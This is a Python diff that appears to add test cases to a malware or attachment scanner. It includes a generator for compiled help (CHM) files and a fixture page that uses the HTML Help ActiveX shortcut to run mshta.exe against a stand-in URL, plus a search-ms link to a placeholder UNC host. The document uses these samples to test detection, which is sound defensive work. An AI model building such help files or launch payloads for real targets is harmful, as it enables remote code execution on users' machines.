@@ -141,6 +141,55 @@ def iso(*members):
             + sector() + tables[0] + tables[1] + sector(root) + files)
 
 
+def encint(n):
+    out = [n & 0x7f]
+    while n > 0x7f:
+        n >>= 7
+        out.insert(0, n & 0x7f | 0x80)
+    return bytes(out)
+
+
+def lzx_stored(data):
+    """One frame of LZX: a block that is not compressed."""
+    bits = 3 << 28 | len(data) << 4		# no E8, type 3, size, padding
+    return (struct.pack("<HH", bits >> 16, bits & 0xffff)
+            + struct.pack("<III", 1, 1, 1) + data + bytes(len(data) % 2))
+
+
+def chm(*files):
+    """Help whose files (32 kB together) are in one compressed interval."""
+    data = b"".join(content for _, content in files)
+    frame = lzx_stored(data)
+    control = struct.pack("<I4sIIIII", 6, b"LZXC", 2, 2, 2, 1, 0)
+    resets = struct.pack("<IIIIQQQQ", 2, 1, 8, 0x28, len(data), len(frame),
+                         0x8000, 0)
+    store = "::DataSpace/Storage/MSCompressed/"
+    own = [(store + "Content", frame), (store + "ControlData", control),
+           (store + "Transform/{7FC28940-9D31-11D0-9B27-00A0C91E9C7C}/"
+            "InstanceData/ResetTable", resets)]
+    entries, at = b"", 0
+    for name, content in own:
+        entries += (encint(len(name)) + name.encode() + b"\0" + encint(at)
+                    + encint(len(content)))
+        at += len(content)
+    at = 0
+    for name, content in files:
+        entries += (encint(len(name)) + name.encode() + b"\1" + encint(at)
+                    + encint(len(content)))
+        at += len(content)
+    chunk = 4096
+    listing = (b"PMGL" + struct.pack("<IIii", chunk - 20 - len(entries), 0,
+                                     -1, -1) + entries).ljust(chunk, b"\0")
+    directory = (b"ITSP" + struct.pack("<IIIIIIiIIiI", 1, 0x54, 10, chunk, 2,
+                                       1, -1, 0, 0, -1, 1)
+                 ).ljust(0x54, b"\0") + listing
+    header = (b"ITSF" + struct.pack("<IIIII", 3, 0x60, 1, 0, 0x409)
+              + bytes(32) + struct.pack("<QQQQQ", 0x60, 0, 0x60,
+                                        len(directory),
+                                        0x60 + len(directory)))
+    return header + directory + b"".join(content for _, content in own)
+
+
 def encoded_command(text):
     return base64.b64encode(text.encode("utf-16-le")).decode()
 
@@ -444,6 +493,30 @@ def link_opens_handler():
     return (base.with_html('<a href="search-ms:query=plan&amp;crumb=location:'
                            '\\\\203.0.113.9@80\\plans&amp;displayname=Plans">'
                            'Plans</a>'), malware("LINK_OPENS_HANDLER"))
+
+
+HELP_COMMAND = (b'<html><object id=x classid="clsid:adb880a6-d8ff-11cf-9377-'
+                b'00aa003b7a11"><param name="Command" value="ShortCut"><param '
+                b'name="Item1" value=",mshta.exe,http://files.example.com/a">'
+                b'</object><script>x.Click();</script></html>')
+
+
+@case
+def help_command():
+    """A help file with a page that starts a program."""
+    return (with_file("Plan.chm", chm(("/plan.html", HELP_COMMAND))),
+            malware("CONSOLE_SCRIPT", "SCRIPT_DOWNLOADS_AND_RUNS", parts=[
+                base.part("2/plan.html", "text/html")]))
+
+
+@case
+def help_control():
+    """A help file of pages."""
+    return (with_file("Plan.chm", chm(
+        ("/plan.html", b"<html><body><a href='b.html'>b</a></body></html>"),
+        ("/b.html", b"<html><body>Text</body></html>"))),
+            suspicious("EXECUTABLE_ATTACHMENT", absent=["CONSOLE_SCRIPT"],
+                       parts=[base.part("2/b.html", "text/html")]))
 
 
 # --- notebooks, disk images --------------------------------------------------------
